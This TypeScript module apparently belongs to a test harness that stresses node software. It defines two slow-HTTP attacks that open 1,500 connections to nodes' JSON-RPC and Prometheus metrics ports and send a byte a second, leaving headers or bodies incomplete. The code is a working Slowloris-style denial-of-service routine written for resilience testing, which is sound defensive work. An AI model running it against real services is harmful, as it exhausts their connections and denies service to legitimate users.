// HTTP requests that come byte by byte: headers, or the body behind them.
import { type Attack, type Target } from '../attack.ts'
import { crowd, pick, strangerAddress } from '../support/crowd.ts'
import { portOf } from '../support/http-client.ts'
import { openSocket, trickle, untilClosed } from '../support/raw-socket.ts'

const STRANGERS = 1_500
const EVERY_MS = 1_000
const FILLER = Buffer.alloc(10_000, 'x')

/** On the API of all nodes. */
export const SLOW_HTTP_WRITERS: Attack = createWriters(
  'slow-http-writers',
  `${String(STRANGERS)} connections to JSON-RPC that send a byte a second`,
  ({ nodes }, stranger) => pick(nodes, stranger).rpcUrl
)

/** On the port for Prometheus. */
export const METRICS_CONNECTIONS: Attack = createWriters(
  'metrics-connections',
  `${String(STRANGERS)} connections to the metrics that send a byte a second`,
  ({ nodes }, stranger) => pick(nodes, stranger).metricsUrl
)

function createWriters(
  name: string,
  title: string,
  urlOf: (target: Target, stranger: number) => string
): Attack {
  return {
    name,
    group: 'http',
    title,
    async run(target, tools) {
      const { signal, did } = tools
      await crowd(tools, STRANGERS, async (stranger) => {
        const port = portOf(urlOf(target, stranger))
        const socket = await openSocket({ port, localAddress: strangerAddress(stranger), signal })
        did('connections')
        socket.on('data', () => undefined)
        const start = `POST / HTTP/1.1\r\nhost: 127.0.0.1:${String(port)}\r\n`
        const isHeadSlow = Math.floor(stranger / target.nodes.length) % 2 === 0
        if (isHeadSlow) socket.write(`${start}x-filler: `)
        else socket.write(`${start}content-type: application/json\r\ncontent-length: 9999\r\n\r\n`)
        await trickle(socket, FILLER, { everyMs: EVERY_MS, signal })
        await untilClosed(socket)
      })
    }
  }
}
